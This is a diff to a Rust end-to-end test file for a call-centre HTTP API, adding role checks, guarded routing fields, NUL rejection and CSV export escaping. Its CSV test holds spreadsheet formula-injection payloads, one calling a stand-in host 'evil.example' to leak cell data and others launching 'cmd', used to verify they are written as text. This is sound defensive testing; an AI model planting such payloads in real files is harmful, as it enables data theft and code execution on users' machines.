@@ -1,15 +1,18 @@
 //! The HTTP API end to end: the real router on a real socket, a SQLite store in a temporary
 //! directory, and a plain HTTP client that handles the session cookie by hand.
 
+#[macro_use]
 mod common;
 
 use std::sync::Arc;
 use std::time::Duration;
 
+use common::{TestDb, TestDbRef};
 use reqwest::header::{AUTHORIZATION, CONTENT_SECURITY_POLICY, CONTENT_TYPE, COOKIE, SET_COOKIE};
 use reqwest::{Client, Response, StatusCode};
 use serde_json::{json, Value};
 use switchdesk::config::Config;
+use switchdesk::directory::model::{Contact, Organization};
 use switchdesk::directory::number::Numbering;
 use switchdesk::directory::PhoneBook;
 use switchdesk::metrics::{self, Metrics};
@@ -27,17 +30,25 @@ struct App {
     metrics: Arc<Metrics>,
     stop: Option<oneshot::Sender<()>>,
     served: tokio::task::JoinHandle<anyhow::Result<()>>,
-    _db: common::TestDb,
+    _db: Option<TestDb>,
 }
 
 impl App {
+    /// The service on a SQLite database of its own.
     async fn start() -> App {
-        let db = common::TestDb::sqlite().await;
+        let db = TestDb::sqlite().await;
+        let mut app = App::on(&db.store, &db.url).await;
+        app._db = Some(db);
+        app
+    }
+
+    /// The service on a scenario's database (see `on_both_backends!`).
+    async fn on(store: &Store, url: &str) -> App {
         let mut config = Config::default();
-        config.database.url = switchdesk::config::Secret::new(db.url.clone());
+        config.database.url = switchdesk::config::Secret::new(url.to_owned());
         config.http.max_body_bytes = MAX_BODY;
         let phonebook = Arc::new(PhoneBook::new(Numbering::new("RU").unwrap()));
-        let state = switchdesk::service::state_without_switch(config, &db.store, phonebook)
+        let state = switchdesk::service::state_without_switch(config, store, phonebook)
             .await
             .unwrap();
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
@@ -50,11 +61,11 @@ impl App {
         App {
             base,
             client: Client::new(),
-            store: db.store.clone(),
+            store: store.clone(),
             metrics,
             stop: Some(stop),
             served,
-            _db: db,
+            _db: None,
         }
     }
 
@@ -249,9 +260,10 @@ async fn the_dashboard_sets_text_only_and_inlines_nothing() {
 }
 
 #[tokio::test]
-async fn status_needs_a_session_and_shows_esl_state() {
+async fn status_needs_a_supervisor_and_shows_esl_state() {
     let app = App::start().await;
     app.add_user("alice", Role::Agent).await;
+    app.add_user("sam", Role::Supervisor).await;
     app.metrics
         .set(metrics::ESL_CONNECTED, "connected", &[("node", "fs1")], 1.0);
     for _ in 0..3 {
@@ -283,8 +295,16 @@ async fn status_needs_a_session_and_shows_esl_state() {
     )
     .await;
 
+    // The same figures as /metrics, so the same role: an agent has no use for them.
     let cookie = app.login("alice").await;
-    let response = app.get("/api/status", Some(&cookie)).await;
+    expect_error(
+        app.get("/api/status", Some(&cookie)).await,
+        StatusCode::FORBIDDEN,
+        "forbidden",
+    )
+    .await;
+    let supervisor = app.login("sam").await;
+    let response = app.get("/api/status", Some(&supervisor)).await;
     assert_eq!(response.status(), StatusCode::OK);
     let status: Value = response.json().await.unwrap();
     assert_eq!(status["esl"]["connected"], true);
@@ -426,7 +446,7 @@ async fn api_tokens_authenticate_until_revoked() {
     assert!(token.starts_with("sdk_"), "{created}");
 
     assert_eq!(
-        app.get("/api/status", Some(&token)).await.status(),
+        app.get("/api/contacts", Some(&token)).await.status(),
         StatusCode::OK
     );
     let me: Value = app.get("/api/me", Some(&token)).await.json().await.unwrap();
@@ -549,7 +569,7 @@ async fn bad_bodies_get_json_errors() {
 }
 
 #[tokio::test]
-async fn metrics_need_a_supervisor_or_a_token_and_count_requests() {
+async fn metrics_need_a_supervisor_and_count_requests() {
     let app = App::start().await;
     app.add_user("alice", Role::Agent).await;
     app.add_user("sam", Role::Supervisor).await;
@@ -561,7 +581,10 @@ async fn metrics_need_a_supervisor_or_a_token_and_count_requests() {
     );
     let agent = app.login("alice").await;
     let supervisor = app.login("sam").await;
-    let scraper = users::add_api_token(&app.store, "prometheus", Role::Agent)
+    let scraper = users::add_api_token(&app.store, "prometheus", Role::Supervisor)
+        .await
+        .unwrap();
+    let agent_token = users::add_api_token(&app.store, "dialplan", Role::Agent)
         .await
         .unwrap();
 
@@ -571,12 +594,19 @@ async fn metrics_need_a_supervisor_or_a_token_and_count_requests() {
         "unauthorized",
     )
     .await;
-    expect_error(
-        app.get("/metrics", Some(&agent)).await,
-        StatusCode::FORBIDDEN,
-        "forbidden",
-    )
-    .await;
+    // A token is no way around the role: /metrics and /api/status need a supervisor alike.
+    for (credential, path) in [
+        (&agent, "/metrics"),
+        (&agent_token, "/metrics"),
+        (&agent_token, "/api/status"),
+    ] {
+        expect_error(
+            app.get(path, Some(credential)).await,
+            StatusCode::FORBIDDEN,
+            "forbidden",
+        )
+        .await;
+    }
 
     for credential in [&supervisor, &scraper] {
         let response = app.get("/metrics", Some(credential)).await;
@@ -607,7 +637,7 @@ async fn metrics_need_a_supervisor_or_a_token_and_count_requests() {
             "{text}"
         );
         assert!(
-            text.contains("switchdesk_http_requests_total{status=\"403\"} 1\n"),
+            text.contains("switchdesk_http_requests_total{status=\"403\"} 3\n"),
             "{text}"
         );
     }
@@ -632,13 +662,17 @@ async fn the_phone_book_is_edited_and_searched_over_the_api() {
         app.get("/api/contacts/search?q=x", None).await.status(),
         StatusCode::UNAUTHORIZED
     );
-    let org = app
-        .post(
-            "/api/organizations",
-            Some(&ann),
-            json!({"name": "Acme Ltd", "numbers": [{"number": "8 495 777", "kind": "range"}], "vip": true}),
-        )
-        .await;
+    // A number range and the VIP flag route calls: a supervisor's to set.
+    let acme = json!({"name": "Acme Ltd", "numbers": [{"number": "8 495 777", "kind": "range"}], "vip": true});
+    let body = expect_error(
+        app.post("/api/organizations", Some(&ann), acme.clone())
+            .await,
+        StatusCode::FORBIDDEN,
+        "forbidden",
+    )
+    .await;
+    assert!(body["error"].as_str().unwrap().contains("vip"), "{body}");
+    let org = app.post("/api/organizations", Some(&sam), acme).await;
     assert_eq!(org.status(), StatusCode::CREATED);
     let org: Value = org.json().await.unwrap();
     assert_eq!(org["numbers"][0]["number"], "+7495777");
@@ -1062,3 +1096,564 @@ async fn supervisors_move_callers_and_listen_in_agents_may_not_and_bad_input_is_
     );
     app.stop().await;
 }
+
+/// Who may call a route that changes something.
+#[derive(Clone, Copy, Debug)]
+enum Who {
+    AtLeast(Role),
+    /// The agent the path names (`ann`), or a supervisor+.
+    TheAgent,
+}
+
+/// Every route that changes something: method, path, who may call it, and whether it reads a
+/// body. A new route belongs here. (`POST /api/login` is public, `POST /api/logout` anyone's,
+/// `POST /api/cdr` mod_xml_cdr's: see tests/cdr_ingest.rs.)
+const STATE_CHANGING: &[(&str, &str, Who, bool)] = &[
+    ("POST", "/api/users", Who::AtLeast(Role::Admin), true),
+    ("POST", "/api/tokens", Who::AtLeast(Role::Admin), true),
+    ("DELETE", "/api/tokens/t", Who::AtLeast(Role::Admin), false),
+    ("PUT", "/api/queues/q", Who::AtLeast(Role::Admin), true),
+    ("DELETE", "/api/queues/q", Who::AtLeast(Role::Admin), false),
+    ("PUT", "/api/agents/ann", Who::AtLeast(Role::Admin), true),
+    (
+        "DELETE",
+        "/api/agents/ann",
+        Who::AtLeast(Role::Admin),
+        false,
+    ),
+    ("POST", "/api/agents/ann/status", Who::TheAgent, true),
+    (
+        "POST",
+        "/api/agents/ann/eavesdrop",
+        Who::AtLeast(Role::Supervisor),
+        true,
+    ),
+    (
+        "POST",
+        "/api/calls/c1/move",
+        Who::AtLeast(Role::Supervisor),
+        true,
+    ),
+    (
+        "POST",
+        "/api/calls/c1/front",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+    ("POST", "/api/contacts", Who::AtLeast(Role::Agent), true),
+    ("PUT", "/api/contacts/1", Who::AtLeast(Role::Agent), true),
+    (
+        "DELETE",
+        "/api/contacts/1",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+    (
+        "POST",
+        "/api/organizations",
+        Who::AtLeast(Role::Agent),
+        true,
+    ),
+    (
+        "PUT",
+        "/api/organizations/1",
+        Who::AtLeast(Role::Agent),
+        true,
+    ),
+    (
+        "DELETE",
+        "/api/organizations/1",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+    ("POST", "/api/assets", Who::AtLeast(Role::Agent), true),
+    ("PUT", "/api/assets/1", Who::AtLeast(Role::Agent), true),
+    (
+        "DELETE",
+        "/api/assets/1",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+    (
+        "POST",
+        "/api/phonebook/import?kind=contacts",
+        Who::AtLeast(Role::Admin),
+        true,
+    ),
+    (
+        "POST",
+        "/api/blocklist",
+        Who::AtLeast(Role::Supervisor),
+        true,
+    ),
+    (
+        "PUT",
+        "/api/blocklist/1",
+        Who::AtLeast(Role::Supervisor),
+        true,
+    ),
+    (
+        "DELETE",
+        "/api/blocklist/1",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+    (
+        "POST",
+        "/api/blocklist/block-caller",
+        Who::AtLeast(Role::Supervisor),
+        true,
+    ),
+    ("POST", "/api/tickets", Who::AtLeast(Role::Agent), true),
+    ("PATCH", "/api/tickets/1", Who::AtLeast(Role::Agent), true),
+    (
+        "POST",
+        "/api/tickets/1/notes",
+        Who::AtLeast(Role::Agent),
+        true,
+    ),
+    (
+        "PUT",
+        "/api/billing/agents/ann",
+        Who::AtLeast(Role::Manager),
+        true,
+    ),
+    (
+        "PUT",
+        "/api/billing/organizations/1",
+        Who::AtLeast(Role::Manager),
+        true,
+    ),
+    (
+        "POST",
+        "/api/outbox/1/retry",
+        Who::AtLeast(Role::Supervisor),
+        false,
+    ),
+];
+
+/// A caller below a route's role is refused before the body is read: a broken body gets
+/// them 403 (401 without credentials), never a 400 that describes the body. The same broken
+/// body from someone who may call the route is read, and refused with 400.
+#[tokio::test]
+async fn every_state_changing_route_checks_the_role_before_the_body() {
+    let app = App::start().await;
+    let token = |name: &'static str, role| {
+        let store = app.store.clone();
+        async move { users::add_api_token(&store, name, role).await.unwrap() }
+    };
+    let agent = token("agent", Role::Agent).await;
+    let supervisor = token("supervisor", Role::Supervisor).await;
+    let manager = token("manager", Role::Manager).await;
+    let admin = token("admin", Role::Admin).await;
+    let ann = token("ann", Role::Agent).await;
+    let broken = "{\"name\": [";
+    for &(method, path, who, reads_body) in STATE_CHANGING {
+        let (below, allowed) = match who {
+            Who::AtLeast(Role::Agent) => (None, &agent),
+            Who::AtLeast(Role::Supervisor) => (Some(&agent), &supervisor),
+            Who::AtLeast(Role::Manager) => (Some(&supervisor), &manager),
+            Who::AtLeast(Role::Admin) => (Some(&manager), &admin),
+            Who::TheAgent => (Some(&agent), &ann),
+        };
+        let send = |credential: Option<&String>| {
+            let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
+            with(
+                app.client.request(method, app.url(path)),
+                credential.map(String::as_str),
+            )
+            .header(CONTENT_TYPE, "application/json")
+            .body(broken)
+            .send()
+        };
+        let response = send(below).await.unwrap();
+        let (status, code) = match below {
+            None => (StatusCode::UNAUTHORIZED, "unauthorized"),
+            Some(_) => (StatusCode::FORBIDDEN, "forbidden"),
+        };
+        assert_eq!(response.status(), status, "{method} {path} as {who:?}");
+        let body: Value = response.json().await.unwrap();
+        assert_eq!(body["code"], code, "{method} {path}: {body}");
+        if reads_body {
+            let response = send(Some(allowed)).await.unwrap();
+            assert_eq!(
+                response.status(),
+                StatusCode::BAD_REQUEST,
+                "{method} {path} as {who:?} with a broken body"
+            );
+        }
+    }
+    app.stop().await;
+}
+
+/// Agents keep the phone book current, but what routes calls and faxes is a supervisor's:
+/// an agent who changes an organization's fax mailboxes, fax numbers, number ranges, VIP flag
+/// or priority (or a contact's VIP flag or priority), or sets one on a new record, gets 403
+/// naming the field, and nothing is stored. An agent sending a record back with those fields
+/// as they were edits it.
+#[tokio::test]
+async fn agents_may_not_change_the_fields_that_route_calls_and_faxes() {
+    let app = App::start().await;
+    app.add_user("ann", Role::Agent).await;
+    app.add_user("sam", Role::Supervisor).await;
+    let ann = app.login("ann").await;
+    let sam = app.login("sam").await;
+    let acme = json!({
+        "name": "Acme",
+        "numbers": [
+            {"number": "+74951230000", "kind": "main"},
+            {"number": "+74951230099", "kind": "fax"},
+            {"number": "+7495123", "kind": "range"},
+        ],
+        "fax_mailboxes": ["fax@acme.example"],
+        "vip": true,
+        "priority": 2,
+    });
+    let created = app.post("/api/organizations", Some(&sam), acme).await;
+    assert_eq!(created.status(), StatusCode::CREATED);
+    let id = created.json::<Value>().await.unwrap()["id"]
+        .as_i64()
+        .unwrap();
+    let path = format!("/api/organizations/{id}");
+    let card: Value = app.get(&path, Some(&ann)).await.json().await.unwrap();
+
+    // The record as the agent read it, renamed, with a note and another main number.
+    let mut edited = card["organization"].clone();
+    edited["name"] = json!("Acme Ltd");
+    edited["notes"] = json!("moved to the 5th floor");
+    edited["numbers"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({"number": "8 495 123-00-01", "kind": "main"}));
+    let response = app.put(&path, Some(&ann), edited.clone()).await;
+    assert_eq!(response.status(), StatusCode::OK);
+
+    let hijacks = [
+        ("fax_mailboxes", json!(["thief@evil.example"])),
+        ("vip", json!(false)),
+        ("priority", json!(9)),
+        (
+            "numbers of kind fax",
+            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74959999999", "kind": "fax"}, {"number": "+7495123", "kind": "range"}]),
+        ),
+        (
+            "numbers of kind range",
+            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74951230099", "kind": "fax"}, {"number": "+7499", "kind": "range"}]),
+        ),
+    ];
+    for (field, value) in &hijacks {
+        let key = if field.starts_with("numbers") {
+            "numbers"
+        } else {
+            field
+        };
+        let mut hijack = edited.clone();
+        hijack[key] = value.clone();
+        let body = expect_error(
+            app.put(&path, Some(&ann), hijack).await,
+            StatusCode::FORBIDDEN,
+            "forbidden",
+        )
+        .await;
+        let message = body["error"].as_str().unwrap();
+        assert!(
+            message.contains(field) && message.contains("supervisor"),
+            "{field}: {body}"
+        );
+        // Nor on a new record (judged against an empty one).
+        let mut new = json!({"name": "Beta"});
+        new[key] = if *value == json!(false) {
+            json!(true)
+        } else {
+            value.clone()
+        };
+        expect_error(
+            app.post("/api/organizations", Some(&ann), new).await,
+            StatusCode::FORBIDDEN,
+            "forbidden",
+        )
+        .await;
+    }
+    let stored: Organization = app.store.record(id).await.unwrap();
+    assert_eq!(stored.name, "Acme Ltd");
+    assert_eq!(stored.fax_mailboxes, vec!["fax@acme.example"]);
+    assert!(stored.vip);
+    assert_eq!(stored.numbers.len(), 4);
+    assert_eq!(
+        app.store
+            .records_after::<Organization>(0, 10)
+            .await
+            .unwrap()
+            .len(),
+        1,
+        "no organization was created by the refused requests"
+    );
+    // A new organization with everyday fields only is the agent's to create...
+    let beta = json!({"name": "Beta", "numbers": [{"number": "+74957770000", "kind": "main"}]});
+    assert_eq!(
+        app.post("/api/organizations", Some(&ann), beta)
+            .await
+            .status(),
+        StatusCode::CREATED
+    );
+    // ...and the guarded fields are the supervisor's.
+    let mut moved = edited.clone();
+    moved["fax_mailboxes"] = json!(["faxes@acme.example"]);
+    assert_eq!(
+        app.put(&path, Some(&sam), moved).await.status(),
+        StatusCode::OK
+    );
+
+    // Contacts: VIP and priority.
+    let body = expect_error(
+        app.post(
+            "/api/contacts",
+            Some(&ann),
+            json!({"first_name": "Ivan", "vip": true}),
+        )
+        .await,
+        StatusCode::FORBIDDEN,
+        "forbidden",
+    )
+    .await;
+    assert!(body["error"].as_str().unwrap().contains("vip"), "{body}");
+    let ivan = app
+        .post(
+            "/api/contacts",
+            Some(&ann),
+            json!({"first_name": "Ivan", "organization_id": id}),
+        )
+        .await;
+    assert_eq!(ivan.status(), StatusCode::CREATED);
+    let ivan: Value = ivan.json().await.unwrap();
+    let contact_path = format!("/api/contacts/{}", ivan["id"]);
+    let mut raised = ivan.clone();
+    raised["priority"] = json!(3);
+    let body = expect_error(
+        app.put(&contact_path, Some(&ann), raised.clone()).await,
+        StatusCode::FORBIDDEN,
+        "forbidden",
+    )
+    .await;
+    assert!(
+        body["error"].as_str().unwrap().contains("priority"),
+        "{body}"
+    );
+    raised["vip"] = json!(true);
+    assert_eq!(
+        app.put(&contact_path, Some(&sam), raised.clone())
+            .await
+            .status(),
+        StatusCode::OK
+    );
+    // The agent's edit form sends the standing back as it was: that is fine.
+    raised["last_name"] = json!("Petrov");
+    assert_eq!(
+        app.put(&contact_path, Some(&ann), raised).await.status(),
+        StatusCode::OK
+    );
+    let stored: Contact = app
+        .store
+        .record(ivan["id"].as_i64().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(
+        (stored.last_name.as_str(), stored.vip, stored.priority),
+        ("Petrov", true, 3)
+    );
+    app.stop().await;
+}
+
+/// Every CSV export writes a cell a spreadsheet would run as a formula as text (a leading
+/// `'`), keeps phone numbers and amounts as they are, and quotes every field; the phone book's
+/// export imports back to the same names.
+#[tokio::test]
+async fn csv_exports_write_formulas_as_text() {
+    let app = App::start().await;
+    app.add_user("ada", Role::Admin).await;
+    let ada = app.login("ada").await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-1+1",
+        "+cmd|' /C calc'!A0",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let created = app
+            .post(
+                "/api/organizations",
+                Some(&ada),
+                json!({"name": name, "numbers": [{"number": format!("+7495555000{i}"), "kind": "main"}], "priority": -1}),
+            )
+            .await;
+        assert_eq!(created.status(), StatusCode::CREATED);
+        let id = created.json::<Value>().await.unwrap()["id"]
+            .as_i64()
+            .unwrap();
+        let fee = app
+            .put(
+                &format!("/api/billing/organizations/{id}"),
+                Some(&ada),
+                json!({"monthly_fee_cents": 1000}),
+            )
+            .await;
+        assert_eq!(fee.status(), StatusCode::OK);
+    }
+    let cells = |text: &str| -> Vec<Vec<String>> {
+        csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    };
+    let phonebook = app
+        .get("/api/phonebook/export?kind=organizations", Some(&ada))
+        .await
+        .text()
+        .await
+        .unwrap();
+    let report = app
+        .get(
+            "/api/reports/profitability?from=2020-01-01&format=csv",
+            Some(&ada),
+        )
+        .await
+        .text()
+        .await
+        .unwrap();
+    for (text, name_column) in [(&phonebook, 1), (&report, 1)] {
+        assert!(text.starts_with('"'), "every field is quoted: {text}");
+        let rows = cells(text);
+        let mut written: Vec<&str> = rows.iter().map(|r| r[name_column].as_str()).collect();
+        written.sort_unstable();
+        let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+        expected.sort();
+        assert_eq!(written, expected, "{text}");
+        for cell in rows.iter().flatten() {
+            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                && !cell
+                    .trim_start_matches(['+', '-'])
+                    .chars()
+                    .all(|c| c.is_ascii_digit() || c == '.');
+            assert!(!formula, "{cell:?} in {text}");
+        }
+    }
+    // Numbers stay numbers: the priority, and the phone numbers inside `phones`.
+    assert!(phonebook.contains("\"-1\""), "{phonebook}");
+    assert!(phonebook.contains("\"main:+74955550000\""), "{phonebook}");
+
+    // Importing the export gives the names back as they were typed.
+    let imported = with(
+        app.client
+            .post(app.url("/api/phonebook/import?kind=organizations")),
+        Some(&ada),
+    )
+    .header(CONTENT_TYPE, "text/csv")
+    .body(phonebook.clone())
+    .send()
+    .await
+    .unwrap();
+    assert_eq!(imported.status(), StatusCode::OK);
+    let report: Value = imported.json().await.unwrap();
+    assert_eq!(report["saved"], 4, "{report}");
+    let mut stored: Vec<String> = app
+        .store
+        .records_after::<Organization>(0, 100)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|o| o.name)
+        .collect();
+    stored.sort();
+    let mut twice: Vec<String> = names.iter().chain(&names).map(|n| n.to_string()).collect();
+    twice.sort();
+    assert_eq!(stored, twice);
+    app.stop().await;
+}
+
+/// A NUL character reaches no database: in a JSON body (named by its field), a query
+/// parameter or the path it is refused with 400, and nothing is stored. And when the
+/// database does fail, the answer carries an error id, never the database's words.
+async fn text_with_a_nul_is_refused_and_database_errors_stay_in_the_log(db: TestDbRef) {
+    let app = App::on(&db.store, &db.url).await;
+    app.add_user("sam", Role::Supervisor).await;
+    let sam = app.login("sam").await;
+
+    let body = expect_error(
+        app.post(
+            "/api/contacts",
+            Some(&sam),
+            json!({"first_name": "Iv\u{0}an"}),
+        )
+        .await,
+        StatusCode::BAD_REQUEST,
+        "bad_request",
+    )
+    .await;
+    assert!(
+        body["error"].as_str().unwrap().contains("body.first_name"),
+        "{body}"
+    );
+    let body = expect_error(
+        app.post(
+            "/api/organizations",
+            Some(&sam),
+            json!({"name": "Acme", "numbers": [{"number": "+7495\u{0}"}]}),
+        )
+        .await,
+        StatusCode::BAD_REQUEST,
+        "bad_request",
+    )
+    .await;
+    assert!(
+        body["error"]
+            .as_str()
+            .unwrap()
+            .contains("body.numbers[0].number"),
+        "{body}"
+    );
+    for path in [
+        "/api/contacts/search?q=iv%00an",
+        "/api/tickets?caller_number=%2B7495%00",
+        "/api/blocklist/check?number=%00",
+        "/api/agents/sam%00",
+    ] {
+        let body = expect_error(
+            app.get(path, Some(&sam)).await,
+            StatusCode::BAD_REQUEST,
+            "bad_request",
+        )
+        .await;
+        assert!(
+            body["error"].as_str().unwrap().contains("NUL"),
+            "{path}: {body}"
+        );
+    }
+    let nothing: Vec<Contact> = db.store.records_after(0, 10).await.unwrap();
+    assert!(nothing.is_empty(), "{nothing:?}");
+    // The same text without the NUL is stored.
+    assert_eq!(
+        app.post("/api/contacts", Some(&sam), json!({"first_name": "Ivan"}))
+            .await
+            .status(),
+        StatusCode::CREATED
+    );
+
+    db.drop_table("tickets").await;
+    let response = app.get("/api/tickets", Some(&sam)).await;
+    let body = expect_error(response, StatusCode::INTERNAL_SERVER_ERROR, "internal").await;
+    let text = body.to_string();
+    for leak in [
+        "tickets",
+        "no such table",
+        "relation",
+        "SELECT",
+        "database",
+        "sqlx",
+    ] {
+        assert!(!text.contains(leak), "{leak:?} in {text}");
+    }
+    assert!(text.contains("internal error "), "{text}");
+    app.stop().await;
+}
+
+on_both_backends!(text_with_a_nul_is_refused_and_database_errors_stay_in_the_log);
